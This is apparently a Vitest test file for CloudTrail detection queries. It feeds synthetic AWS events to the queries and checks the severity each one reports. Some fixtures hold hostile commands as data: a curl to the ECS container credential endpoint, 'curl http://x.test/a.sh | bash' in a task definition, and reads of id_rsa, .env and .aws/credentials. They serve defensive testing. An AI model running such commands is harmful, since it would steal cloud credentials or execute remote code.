import { beforeAll, describe, expect, test } from "vitest";
import { ask, type Answer } from "../helpers/ask-library.ts";
import { caseOf } from "../helpers/small-case.ts";
import { ACCOUNT, iamUser, makeRecord, OTHER_ACCOUNT, type RecordFields } from "../helpers/trail-maker.ts";

// Triggers, clusters, shells, files and hidden requests. The label of each record says what its query is to make of it.

const DAY = 86_400;
const DENIED = { errorCode: "AccessDenied", errorMessage: "not authorized to perform", requestParameters: null };
const TERRAFORM = { userAgent: "APN/1.0 HashiCorp/1.0 Terraform/1.5.0" };
const records: RecordFields[] = [];
const expected: Record<string, [id: string, severity: string][]> = {};
let n = 0;

interface Called {
  readonly finding?: string;
  readonly more?: RecordFields;
}

function call(name: string, request: RecordFields | null, { finding, more = {} }: Called = {}): void {
  n += 1;
  const [service = "", eventName = ""] = name.split(":");
  const id = `${n} ${name}: ${finding ?? "no row"}`;
  records.push(
    makeRecord(n, {
      eventID: id,
      eventSource: `${service}.amazonaws.com`,
      eventName,
      readOnly: false,
      requestParameters: request,
      ...more,
    }),
  );
  const [query = "", severity = ""] = finding?.split(": ") ?? [];
  if (finding !== undefined) (expected[query] ??= []).push([id, severity]);
}

// Triggers.
const trigger = (name: string, request: RecordFields | null, severity: string, more: RecordFields = {}): void =>
  call(name, request, { finding: `scheduled-triggers: ${severity}`, more });
trigger("events:PutRule", { name: "nightly", scheduleExpression: "rate(1 day)" }, "low");
trigger("events:PutRule", { name: "nightly", scheduleExpression: "rate(1 day)" }, "informational", TERRAFORM);
trigger("events:PutRule", { name: "watch", eventPattern: '{"detail":{"eventName":["CreateUser"]}}' }, "medium");
const lambdaOf = (account: string): string => `arn:aws:lambda:us-east-1:${account}:function:f`;
trigger("events:PutTargets", { rule: "r", targets: [{ id: "1", arn: lambdaOf(ACCOUNT) }] }, "low");
trigger("events:PutTargets", { rule: "r", targets: [{ id: "1", arn: lambdaOf(OTHER_ACCOUNT) }] }, "medium");
trigger("events:PutRule", null, "low", DENIED);
trigger("scheduler:CreateSchedule", { name: "s", target: { arn: lambdaOf(ACCOUNT) } }, "low");
trigger("ssm:UpdateDocument", { name: "d" }, "medium");
trigger("cloudformation:CreateStackInstances", { stackSetName: "x" }, "medium");
trigger("s3:PutBucketNotification", { NotificationConfiguration: { CloudFunction: lambdaOf(ACCOUNT) } }, "low");
trigger("events:PutTargets", { rule: 5, targets: "odd" }, "low");
call("s3:PutBucketNotification", { NotificationConfiguration: {} });
call("events:DeleteRule", { name: "r" });
call("wellarchitected:UpdateProject", { name: "p" });

// Clusters.
const eks = (name: string, request: RecordFields | null, severity?: string, more: RecordFields = {}): void =>
  call(`eks:${name}`, request, severity === undefined ? { more } : { finding: `eks-access: ${severity}`, more });
const roleOf = (account: string): string => `arn:aws:iam::${account}:role/r`;
const adminPolicy = "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy";
eks("CreateAccessEntry", { name: "c", principalArn: roleOf(ACCOUNT) }, "low");
eks("CreateAccessEntry", { name: "c", principalArn: roleOf(OTHER_ACCOUNT) }, "high");
eks("CreateAccessEntry", { name: "c", principalArn: roleOf(OTHER_ACCOUNT) }, "medium", TERRAFORM);
eks("CreateAccessEntry", { name: "c", principalArn: roleOf(ACCOUNT), kubernetesGroups: ["system:masters"] }, "medium");
eks("AssociateAccessPolicy", { name: "c", principalArn: roleOf(ACCOUNT), policyArn: adminPolicy }, "medium");
eks("AssociateAccessPolicy", { name: "c", principalArn: roleOf(ACCOUNT), policyArn: adminPolicy }, "low", TERRAFORM);
eks("AssociateAccessPolicy", null, "low", DENIED);
const reachable = (...publicAccessCidrs: string[]): RecordFields => ({
  name: "c",
  resourcesVpcConfig: { endpointPublicAccess: true, publicAccessCidrs },
});
eks("UpdateClusterConfig", reachable("198.51.100.0/24", "0.0.0.0/0"), "medium");
eks("UpdateClusterConfig", reachable("198.51.100.0/24"));
eks("UpdateClusterConfig", { name: "c", resourcesVpcConfig: { endpointPublicAccess: false } });
eks("CreateAccessEntry", { name: "c", principalArn: ["odd"] }, "low");
eks("DescribeCluster", { name: "c" });

// Containers, jobs, shells.
const exec = (name: string, request: RecordFields | null, severity: string, more: RecordFields = {}): void =>
  call(name, request, { finding: `container-and-shell-exec: ${severity}`, more });
exec("ecs:ExecuteCommand", { cluster: "c", task: "t", command: "/bin/sh" }, "medium");
exec(
  "ecs:ExecuteCommand",
  { cluster: "c", task: "t", command: "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI" },
  "high",
);
exec("ecs:ExecuteCommand", null, "low", { ...DENIED });
const task = (command: string): RecordFields => ({
  family: "f",
  containerDefinitions: [{ name: "c", command: [command] }],
});
exec("ecs:RegisterTaskDefinition", task("curl http://x.test/a.sh | bash"), "high");
call("ecs:RegisterTaskDefinition", task("node server.js"));
exec("ecs:RunTask", { overrides: { containerOverrides: [{ name: "c", command: ["id"] }] } }, "low");
call("ecs:RunTask", { overrides: { containerOverrides: [] } });
exec("cloudshell:CreateSession", { environmentId: "e" }, "low");
exec("cloudshell:GetFileDownloadUrls", { environmentId: "e" }, "medium");
exec("codebuild:StartBuild", { projectName: "p", buildspecOverride: "x" }, "low");
call("codebuild:StartBuild", { projectName: "p" });
call("redshift-data:ExecuteCommand", { command: "/bin/sh" });

// Other credentials.
const take = (name: string, request: RecordFields | null, severity: string, more: RecordFields = {}): void =>
  call(name, request, { finding: `other-credential-reads: ${severity}`, more: { readOnly: true, ...more } });
take("ecr:GetAuthorizationToken", null, "informational");
take("lambda:GetFunction20150331v2", { functionName: "f" }, "low");
take("lambda:GetFunction20150331v2", { functionName: "g" }, "informational");
take("lambda:GetFunction20150331v2", { functionName: "f" }, "informational", {
  ...TERRAFORM,
  userIdentity: iamUser("deployer"),
});
take("lightsail:DownloadDefaultKeyPair", null, "medium");
take("ec2:GetConsoleScreenshot", { instanceId: "i-00000000000000001" }, "medium");
take("ec2:GetConsoleOutput", null, "low", DENIED);
take("apigateway:GetApiKeys", { includeValues: true }, "medium");
call("apigateway:GetApiKeys", { includeValues: false }, { more: { readOnly: true } });
call("verifiedpermissions:GetCredentials", null, { more: { readOnly: true } });

// Files.
const file = (key: string, severity?: string, more: RecordFields = {}): void =>
  call(
    "s3:GetObject",
    { bucketName: "b", key },
    {
      ...(severity === undefined ? {} : { finding: `sensitive-object-reads: ${severity}` }),
      more: { readOnly: true, eventCategory: "Data", managementEvent: false, ...more },
    },
  );
file("app/.env", "medium");
file("app/.env", "informational");
file("home/.aws/credentials", "medium");
file("keys/prod.pem", "medium");
file("backup/users.sql.gz", "low");
file("tf/terraform.tfstate", "informational", TERRAFORM);
file("keys/prod.pem", "low", { errorCode: "AccessDenied" });
file("id_rsa", "high", {
  userIdentity: { type: "AWSAccount", principalId: "", accountId: "ANONYMOUS_PRINCIPAL" },
});
file("docs/environment.md");
file("img/pem.png");
call("s3:PutObject", { bucketName: "b", key: "app/.env" }, { more: { eventCategory: "Data" } });

// Hidden requests: everything above shows what it asked for.
const omitted = { omitted: true, originalSize: 123_456, reason: "requestParameters too large" };
call("iam:PutUserPolicy", omitted, { finding: "hidden-requests: medium" });
call("cloudformation:UpdateStack", omitted, { finding: "hidden-requests: low" });
call("iam:CreateRole", omitted, { finding: "hidden-requests: low", more: { errorCode: "ValidationError" } });
call(
  "iam:CreateLoginProfile",
  { password: "HIDDEN_DUE_TO_SECURITY_REASONS" },
  {
    finding: "hidden-requests: informational",
  },
);
call("iam:PutUserPolicy", { userName: "omitted" });
call("iam:PutUserPolicy", { userName: "x", note: { omitted: true } });

let caseFolder: string;
const answers = new Map<string, Answer>();
beforeAll(async () => {
  caseFolder = await caseOf(records);
  for (const query of Object.keys(expected)) answers.set(query, await ask(caseFolder, query));
});

test.each(Object.keys(expected))("%s reports these, with these verdicts, and nothing else", (query) => {
  const byNumber = (a: string[], b: string[]): number => Number.parseInt(a[0]!, 10) - Number.parseInt(b[0]!, 10);
  const { rows } = answers.get(query)!;

  expect(rows.map((row) => [row["event_id"], row["severity"]].map(String)).toSorted(byNumber)).toEqual(expected[query]);
});

test.each([
  ["other-credential-reads", "is_first_of_caller"],
  ["sensitive-object-reads", "is_first_read"],
])("%s knows what came before the scope", async (query, isFirst) => {
  const whole = answers.get(query)!.rows;
  const repeated = whole.find((row) => row[isFirst] === false)!;
  const { rows } = await ask(caseFolder, query, { scope: { since: String(repeated["event_time"]) } });

  expect(rows[0]).toEqual(repeated);
  for (const row of rows) expect(whole).toContainEqual(row);
});

describe("unused-regions", () => {
  const region = (count: number, awsRegion: string, changes: RecordFields = {}): RecordFields[] =>
    Array.from({ length: count }, (_, i) =>
      makeRecord(i, { eventID: `${awsRegion} ${i} ${JSON.stringify(changes).length}`, awsRegion, ...changes }),
    );
  const launch = { eventName: "RunInstances", readOnly: false, eventTime: "2024-03-05T10:00:00Z" };
  let folder: string;
  beforeAll(async () => {
    folder = await caseOf([
      ...region(100, "us-east-1"),
      ...region(3, "eu-north-1"),
      ...region(2, "ap-east-1", launch),
      ...region(2, "sa-east-1", { eventName: "CreateTags", readOnly: false }),
      ...region(60, "eu-west-1"),
      ...region(4, "me-south-1", { userIdentity: { type: "AWSService", invokedBy: "x.amazonaws.com" } }),
      ...region(4, "af-south-1", { eventSource: "iam.amazonaws.com", eventName: "ListUsers" }),
    ]);
  });

  test("lists regions with little in them, by what was done there", async () => {
    const { rows } = await ask(folder, "unused-regions");

    expect(
      Object.fromEntries(rows.map((row) => [row["region"], [row["severity"], row["n_records"], row["n_changes"]]])),
    ).toEqual({
      "ap-east-1": ["medium", 2, 2],
      "eu-north-1": ["informational", 3, 0],
      "sa-east-1": ["low", 2, 2],
    });
    expect(rows.find((row) => row["region"] === "ap-east-1")!["why"]).toMatch(/nothing here on the first day/);
  });

  test("knows how much there is outside the scope", async () => {
    const { rows } = await ask(folder, "unused-regions", { scope: { region: ["sa-east-1", "ap-east-1"] } });

    expect(rows.map((row) => row["region"])).toEqual(["sa-east-1", "ap-east-1"]);
  });

  test("takes another threshold, yet never the account's home", async () => {
    const { rows } = await ask(folder, "unused-regions", { params: { max_events: String(DAY) } });

    expect(rows.map((row) => row["region"])).not.toContain("us-east-1");
  });
});
